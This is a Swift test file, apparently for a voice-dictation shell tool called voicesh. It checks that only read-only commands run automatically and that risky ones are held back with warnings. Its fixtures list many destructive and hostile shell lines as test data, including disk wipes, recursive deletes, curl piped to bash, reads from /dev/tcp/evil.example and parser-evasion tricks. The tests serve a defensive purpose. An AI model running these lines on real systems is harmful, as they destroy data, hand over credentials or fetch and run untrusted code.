import Testing

@testable import VoiceshCore

/// `send = "auto"` runs only what is known harmless (`ReadOnlyCheck`); the confirmation's
/// risk marks (`RiskCheck`) name what the rest would do.
struct ReadOnlyCheckTests {
    /// Issue 27's tour: each of these ran under `auto` with no key, and each is marked.
    static let destructive: [(line: String, mark: String)] = [
        ("cd > _dashboards", "overwrites _dashboards"),
        ("> ~/.bashrc", "overwrites ~/.bashrc"),
        ("echo > ~/.bashrc", "overwrites ~/.bashrc"),
        ("echo > f", "overwrites f"),
        ("cat /dev/null > /etc/passwd", "overwrites /etc/passwd"),
        (": > important.db", "overwrites important.db"),
        ("rm -rf ./*", "deletes ./* recursively"),
        ("rm -rf ~root", "deletes ~root recursively"),
        ("cp /dev/zero /dev/sda", "writes over /dev/sda"),
        ("echo hi | tee /dev/sda", "writes over /dev/sda"),
        ("echo 'deb x' | sudo tee /etc/apt/sources.list", "overwrites /etc/apt/sources.list"),
        ("tar -cf /dev/sda .", "writes over /dev/sda"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "dd writes straight to a file or disk"),
        ("echo cm0gLXJmIH4K | base64 -d | sh", "sh runs what base64 prints"),
        ("curl -sSL https://get.example | bash -s stable", "pipes a download into a shell"),
        ("echo 'print(1)' | python3 -", "python3 runs what echo prints"),
        ("mv ~ /dev/null", "moves ~ away"),
        ("mv /etc /tmp", "moves /etc away"),
        ("mv notes.txt /dev/null", "moves notes.txt onto /dev/null, which destroys it"),
        ("sed -i d /etc/passwd", "sed -i rewrites /etc/passwd in place"),
        ("rsync -a --delete empty/ /", "rsync --delete deletes from / whatever the source lacks"),
        ("userdel -r root", "deletes the user root and their home directory"),
        ("passwd -d root", "removes root's password"),
        ("systemctl stop sshd", "stops sshd"),
        ("systemctl mask sshd.service", "masks sshd.service, so it cannot start"),
        ("ip link set eth0 down", "takes eth0 down, which can cut this connection"),
        ("chmod 000 /", "changes the permissions of /"),
        (#"python3 -c "import shutil; shutil.rmtree('/')""#, "python3 -c runs Python code voicesh cannot check"),
        (#"perl -e 'system("rm -rf /")'"#, "perl -e runs Perl code voicesh cannot check"),
        ("ruby -e 'File.delete(\"x\")'", "ruby -e runs Ruby code voicesh cannot check"),
        ("node -e 'require(\"fs\").rmSync(\"/\")'", "node -e runs JavaScript code voicesh cannot check"),
        ("truncate -s 0 important.db", "empties important.db"),
        ("truncate -s 10M big.log", "cuts big.log to 10M, losing what lies past it"),
        ("TRUNCATE users", "truncates a table"),
    ]

    @Test(arguments: destructive) func waitsAndIsMarked(_ line: String, mark: String) {
        #expect(ReadOnlyCheck.waitReason(line) != nil, "\(line)")
        #expect(RiskCheck.reason(line) == mark, "\(line)")
        #expect(auto(line) == .waits, "\(line)")
    }

    /// Lines with no mark of their own that still wait: not read-only, or not readable as such.
    static let notKnownHarmless: [(line: String, why: String)] = [
        ("ls > listing.txt", "writes to listing.txt"),
        ("ls >> listing.txt", "writes to listing.txt"),
        ("ls &> all.txt", "writes to all.txt"),
        ("ls >| listing.txt", "writes to listing.txt"),
        ("ls 2> errors.txt", "writes to errors.txt"),
        ("ls >&listing.txt", "writes to listing.txt"),
        ("cat <<EOF", "reads a here-document"),
        ("cat $(ls)", "runs another command first"),
        ("ls `pwd`", "runs another command first"),
        ("diff <(ls a) <(ls b)", "runs another command first"),
        ("ls | sh", "sh is not on the read-only list"),
        ("ls | bash", "bash is not on the read-only list"),
        ("cat list | xargs rm", "xargs is not on the read-only list"),
        ("cat x | tee y", "tee is not on the read-only list"),
        ("cat x | python3", "python3 is not on the read-only list"),
        ("sudo ls", "sudo is not on the read-only list"),
        ("ls; rm notes.txt", "rm is not on the read-only list"),
        ("ls && reboot", "reboot is not on the read-only list"),
        ("vim notes.txt", "vim is not on the read-only list"),
        ("git push", "git push is not on the read-only list"),
        ("git branch -D main", "git branch -D can change things"),
        ("git branch feature", "git branch feature changes things"),
        ("git -c core.pager=sh log", "git -c is not on the read-only list"),
        ("git diff --output=~/.bashrc", "git diff --output can change things"),
        ("find . -delete", "find -delete can change things"),
        ("find . -exec rm {} ;", "find -exec can change things"),
        ("PAGER=rm git log", "sets PAGER"),
        ("$CMD", "runs a command named by a variable"),
        ("./ls", "runs ./ls, which is not a known command"),
        ("grep -r secret /", "grep -r reads all of /"),
        ("sort -o data.txt data.txt", "sort -o can change things"),
        ("uniq in.txt out.txt", "uniq in.txt out.txt changes things"),
        ("date -s 2020-01-01", "date -s can change things"),
        ("hostname evil", "hostname evil changes things"),
        ("find $DIR -name x", "$DIR could become an option of find voicesh cannot see"),
        ("systemctl restart nginx", "systemctl restart is not on the read-only list"),
        ("ip route flush all", "ip changes the network"),
        ("kubectl delete pod x", "kubectl delete is not on the read-only list"),
        ("echo 'open", "cannot be read as a shell line"),
        ("ss -K dst 10.0.0.1", "ss -K can change things"),
        ("ls; exit", "exit is not on the read-only list"),
        ("{ ls; }", "{ is not on the read-only list"),
        // A hostile review: each of these ran under auto, and each wrote, deleted or ran code.
        ("ls ${x:-$(rm -rf ~)}", "runs another command first"),
        (#"echo ${x:-'}'} ; rm -rf ~ ; echo \'"#, "runs another command first"),
        (#"echo $'\'' ; rm -rf ~ ; echo \'"#, "rm is not on the read-only list"),
        ("sort $'-o' out.txt in.txt", "$'-o' could become an option of sort voicesh cannot see"),
        (#"find . $"-delete""#, "$-delete could become an option of find voicesh cannot see"),
        ("echo \"a\"\u{301} ; rm -rf ~ ; echo \"\"\u{301}", "rm is not on the read-only list"),
        ("ls # ; rm -rf ~", "rm is not on the read-only list"),  // zsh: `#` starts no comment
        ("echo !!", "runs another command first"),
        (#"cat "!rm""#, "runs another command first"),
        ("printf -v PROMPT_COMMAND 'rm -rf ~'", "printf -v can change things"),
        ("printf -vPROMPT_COMMAND x", "printf -v can change things"),
        ("env -S'rm -rf ~'", "env -S can change things"),
        ("env --split-string='rm -rf ~'", "env --split-string can change things"),
        ("git --namespace log clean -fdx", "git --namespace is not on the read-only list"),
        ("git --work-tree . status reset --hard", "git --work-tree is not on the read-only list"),
        ("git --exec-path=/tmp status", "git --exec-path is not on the read-only list"),
        ("docker --log-level info rm -f web", "docker --log-level is not on the read-only list"),
        ("docker -l info rm -f web", "docker -l is not on the read-only list"),
        ("kubectl --as get delete pod x", "kubectl --as is not on the read-only list"),
        ("kubectl -v get delete pod x", "kubectl -v is not on the read-only list"),
        ("systemctl -p status stop sshd", "systemctl -p is not on the read-only list"),
        ("systemctl -- stop sshd", "systemctl -- is not on the read-only list"),
        ("ip -- link set eth0 down", "ip -- is not on the read-only list"),
        ("ip -batch a", "ip -batch is not on the read-only list"),
        ("ip link s eth0 down", "ip changes the network"),
        ("sort --out=data.txt data.txt", "sort --out can change things"),
        ("date --se=2020-01-01", "date --se can change things"),
        ("journalctl --vacuum-s=1M", "journalctl --vacuum-s can change things"),
        ("journalctl --cursor-file=~/.bashrc", "journalctl --cursor-file can change things"),
        ("git branch --unset-up", "git branch --unset-up can change things"),
        ("ss --ki dst 10.0.0.1", "ss --ki can change things"),
        ("ss -D ~/.bashrc", "ss -D can change things"),
        ("ls >&\u{663}", "writes to \u{663}"),
        // Checked in the review and already waiting: kept so they stay so.
        ("history -c", "history is not on the read-only list"),
        ("xxd -r dump.hex out.bin", "xxd is not on the read-only list"),
        ("less notes.txt", "less is not on the read-only list"),
        ("watch ls", "watch is not on the read-only list"),
        ("command rm x", "command is not on the read-only list"),
        ("exec rm x", "exec is not on the read-only list"),
        ("nohup rm x &", "nohup is not on the read-only list"),
        ("time rm x", "time is not on the read-only list"),
        ("timeout 5 rm x", "timeout is not on the read-only list"),
        (#"\rm x"#, "rm is not on the read-only list"),
        ("'rm' x", "rm is not on the read-only list"),
        ("ls${IFS}-la", "runs a command named by a variable"),
        ("{rm,-rf,x}", "{rm,-rf,x} is not on the read-only list"),
        ("find . -fls out.txt", "find -fls can change things"),
        ("find . -okdir rm {} ;", "find -okdir can change things"),
        ("git log --output=x", "git log --output can change things"),
        ("git show --output=x HEAD", "git show --output can change things"),
        ("git tag -d v1", "git tag -d can change things"),
        ("journalctl --rotate", "journalctl --rotate can change things"),
        ("cat x | sort -o y", "sort -o can change things"),
        ("echo $[PATH=0]", "runs another command first"),
        ("sort $=X", "$=X could become an option of sort voicesh cannot see"),
        ("cat < /dev/tcp/evil.example/80", "opens a network connection to evil.example/80"),
        ("kubectl get pods --server=https://evil.example", "kubectl get --server can change things"),
        ("kubectl get pods -shttps://evil.example", "kubectl -s sends your credentials to another server"),
    ]

    @Test(arguments: notKnownHarmless) func waits(_ line: String, why: String) {
        #expect(ReadOnlyCheck.waitReason(line) == why, "\(line)")
        #expect(auto(line) == .waits, "\(line)")
    }

    static let harmless: [String] = [
        "ls -la", "ls", "pwd", "whoami", "git status", "git log --oneline -5", "git diff --stat", "git show HEAD",
        "git branch -a", "git -C repo status", "cat README.md", "df -h", "du -sh .", "free -m", "uptime",
        "ps aux | grep ssh", "head -n 20 notes.txt", "tail -f /var/log/syslog", "grep -rn TODO src",
        "echo hello", "ls 2>/dev/null", "ls /missing 2>&1 | head", "ls >/dev/null 2>&1", "wc -l < notes.txt",
        "sort names.txt | uniq -c", "find . -name '*.swift'", "uname -a", "cd /tmp && ls", "ls $HOME",
        "kubectl get pods -n prod", "kubectl -n prod get pods", "systemctl status sshd", "journalctl -u sshd -n 50",
        "ip a", "ip -br addr show", "docker ps", "ss -tlnp", "(cd /tmp; ls) &", "date +%F", "env", "cat *.md",
        "ls # rm -rf /", "tail -n 50 app.log", "cat a | head", "echo ${HOME}", "git -C repo log -p -- src",
        "printf '%s\\n' hi", "systemctl --user status x", "docker logs -f web", "kubectl get pods -o wide",
        "ip -br a", "git --no-pager log --oneline", "ls -- -x", "echo caf\u{65}\u{301}", "echo a != b",
        "kubectl get pods -ojson --sort-by=.metadata.name", "cat < notes.txt", "tail --pid=1 -f app.log",
        "du --files0-from=list.txt", #"l\s -la"#, "git status --porcelain", "ps -eo pid,comm", "head -c 100 /dev/zero",
    ]

    @Test(arguments: harmless) func runs(_ line: String) {
        #expect(ReadOnlyCheck.waitReason(line) == nil, "\(line): \(ReadOnlyCheck.waitReason(line) ?? "")")
        #expect(RiskCheck.reason(line) == nil, "\(line)")
        #expect(auto(line) == .runs, "\(line)")
    }

    /// The hook for word confidence: a harmless line with an unsure word waits too.
    @Test func anUnsureWordWaits() {
        #expect(ReadOnlyCheck.waitReason("ls -la", unsureWords: true) == "has words the engine was not sure of")
        #expect(ReadOnlyCheck.waitReason("ls -la") == nil)
    }

    @Test func confirmStillAsksOnlyForTheMarked() {
        // Under confirm a harmless-but-unlisted line shows without a mark and runs on ctrl-r.
        var machine = DictationStateMachine(settings: .init(toggle: .defaultToggle, send: .confirm))
        _ = machine.toggle(now: 0)
        _ = machine.key(.toggle, now: 1)
        #expect(machine.transcribed(.init(text: "make test", rawText: "make test"), take: 1, now: 2) == [])
        _ = machine.shown(room: 80)
        let effects = machine.key(.control("r"), now: 3)
        #expect(effects.contains { if case .send(_, run: true) = $0 { true } else { false } })
    }

    /// Issue 33: lines the shell would not finish (it waits at `>` for the rest) never run
    /// under `auto`, and the reason is the line's mark.
    static let unfinished: [(line: String, why: String)] = [
        ("ls /tmp/w |", "ends in |"), ("ls &&", "ends in &&"), ("ls ||", "ends in ||"), ("ls |&", "ends in |&"),
        ("( ls", "leaves ( open"), ("echo \"open", "leaves \" open"), ("echo 'open", "leaves ' open"),
        ("echo $(date", "leaves $( open"), ("echo `date", "leaves ` open"), ("ls \\", "ends in a backslash"),
        ("ls >", "ends in >"), ("cat <<EOF", "starts a here-document (<<EOF) whose lines would follow"),
        ("if true", "waits for fi"), ("for f in a b; do echo $f", "waits for done"), ("{ ls", "waits for }"),
        ("case $x in a) ls ;;", "waits for esac"), ("while true; do ls", "waits for done"),
    ]

    @Test(arguments: unfinished) func anUnfinishedLineWaits(_ line: String, why: String) {
        #expect(ShellWords.waitsForMore(line) == why, "\(line)")
        #expect(auto(line) == .waits, "\(line)")
    }

    /// Finished lines, compound commands among them, are not held for it.
    @Test(arguments: [
        "ls /tmp", "ls | wc -l", "ls && pwd", "(ls)", "if true; then ls; fi", "for f in a b; do echo $f; done",
        "{ ls; }", "case x in a) ls ;; esac", "echo 'a|b'", "echo \"&&\"", "ls &", "ls;", "cat <<<word",
        "f() { ls; }",
    ])
    func aFinishedLineIsNotHeld(_ line: String) {
        #expect(ShellWords.waitsForMore(line) == nil, "\(line): \(ShellWords.waitsForMore(line) ?? "")")
    }

    /// In every mode: under `confirm` ctrl-r on an unfinished line asks for `y` first, with the
    /// reason; Enter inserts it as it is (nothing runs).
    @Test func runningAnUnfinishedLineAsksFirstInEveryMode() {
        for send in [SendPolicy.confirm, .auto] {
            var machine = DictationStateMachine(settings: .init(toggle: .defaultToggle, send: send))
            machine.remoteModes(.shellPrompt)
            _ = machine.toggle(now: 0)
            _ = machine.key(.toggle, now: 1)
            _ = machine.transcribed(.init(text: "ls /tmp/w |", rawText: "ls /tmp/w |"), take: 1, now: 2)
            _ = machine.shown(room: 80)
            #expect(machine.key(.control("r"), now: 3) == [])
            guard case .confirmingRisk(_, let prompt, run: true) = machine.state else {
                Issue.record("\(send): \(machine.state)")
                continue
            }
            #expect(prompt.unfinished == "ends in |" && prompt.risk == nil)
            let view = DictationView(toggle: .defaultToggle)
            let line = view.pieces(machine.state, level: 0, now: 3, width: 120).map(\.0).joined()
            #expect(line.hasPrefix("⚠ ends in |: ls /tmp/w |"), "\(line)")
            _ = machine.key(.text("x"), now: 4)  // back to the line
            let inserted = machine.key(.enter, now: 5)
            #expect(inserted.contains { if case .send(_, run: false) = $0 { true } else { false } })
        }
    }

    /// Issue 33's tour: held under `auto` but not marked, so ctrl-r ran them with no `y`. Each
    /// changes the shell itself or acts on every name it is handed, and is marked so.
    static let shellState: [(line: String, mark: String)] = [
        ("echo ${PROMPT_COMMAND:=rm -rf ~}", "sets PROMPT_COMMAND, which the shell runs or expands at every prompt"),
        ("printf -v PROMPT_COMMAND 'rm x'", "sets PROMPT_COMMAND, which the shell runs or expands at every prompt"),
        ("PROMPT_COMMAND='curl x | sh'", "sets PROMPT_COMMAND, which the shell runs or expands at every prompt"),
        ("export PS1='$(rm x)'", "sets PS1, which the shell runs or expands at every prompt"),
        ("declare PS0=x", "sets PS0, which the shell runs or expands at every prompt"),
        ("PS4+=x", "sets PS4, which the shell runs or expands at every prompt"),
        ("precmd_functions+=(evil)", "sets precmd_functions, which the shell runs or expands at every prompt"),
        ("read PS1", "sets PS1, which the shell runs or expands at every prompt"),
        ("trap 'rm -f x' EXIT", "sets a trap: its command runs when the shell gets a signal or exits"),
        ("alias ls='rm -i'", "defines the alias ls, which changes what ls runs"),
        ("ls () { echo hi; }", "defines ls as a function, which changes what ls runs"),
        ("function cd { echo no; }", "defines cd as a function, which changes what cd runs"),
        ("enable -n echo", "enable changes the shell's builtins"),
        ("enable -f ./x.so x", "enable changes the shell's builtins"),
        ("docker system prune -af", "docker system prune deletes whatever no container uses"),
        ("docker image prune -a", "docker image prune deletes whatever no container uses"),
        ("sudo podman volume prune", "podman volume prune deletes whatever no container uses"),
        ("ls | xargs rm", "rm deletes every file xargs reads"),
        ("find . -name '*.o' | xargs -0 shred", "shred destroys every file xargs reads"),
        ("cat pids | xargs kill", "kill kills every process xargs reads"),
        ("chown -R user /srv/app", "chown -R changes every file under /srv/app"),
        ("chmod -R 777 build", "chmod -R changes every file under build"),
        ("chgrp --recursive staff shared", "chgrp -R changes every file under shared"),
    ]

    @Test(arguments: shellState) func aShellStateChangeIsMarkedAndWaits(_ line: String, mark: String) {
        #expect(RiskCheck.reason(line) == mark, "\(line)")
        #expect(auto(line) == .waits, "\(line)")
    }

    /// What stays unmarked: listing traps and aliases, putting a trap back, reading a prompt variable.
    @Test(arguments: [
        "trap", "trap -p", "trap - INT", "alias", "alias ll", "echo $PS1", "echo ${PROMPT_COMMAND:-none}",
        "enable -a", "docker ps", "printf '%s' x", "chmod 644 notes.txt", "FOO=1 make", "export EDITOR=vim",
    ])
    func aLookAtTheShellIsNotMarked(_ line: String) {
        #expect(RiskCheck.reason(line) == nil, "\(line): \(RiskCheck.reason(line) ?? "")")
    }

    enum Auto { case runs, waits }

    /// What `send = "auto"` does with `line` once it is transcribed.
    func auto(_ line: String) -> Auto {
        var machine = DictationStateMachine(settings: .init(toggle: .defaultToggle, send: .auto))
        machine.remoteModes(.shellPrompt)
        _ = machine.toggle(now: 0)
        _ = machine.key(.toggle, now: 1)
        let effects = machine.transcribed(.init(text: line, rawText: line), take: 1, now: 2)
        if effects.contains(where: { if case .send(_, run: true) = $0 { true } else { false } }) { return .runs }
        guard case .confirming(_, let prompt) = machine.state, prompt.text == line, effects.isEmpty else {
            Issue.record("\(line): \(machine.state) \(effects)")
            return .runs
        }
        return .waits
    }
}
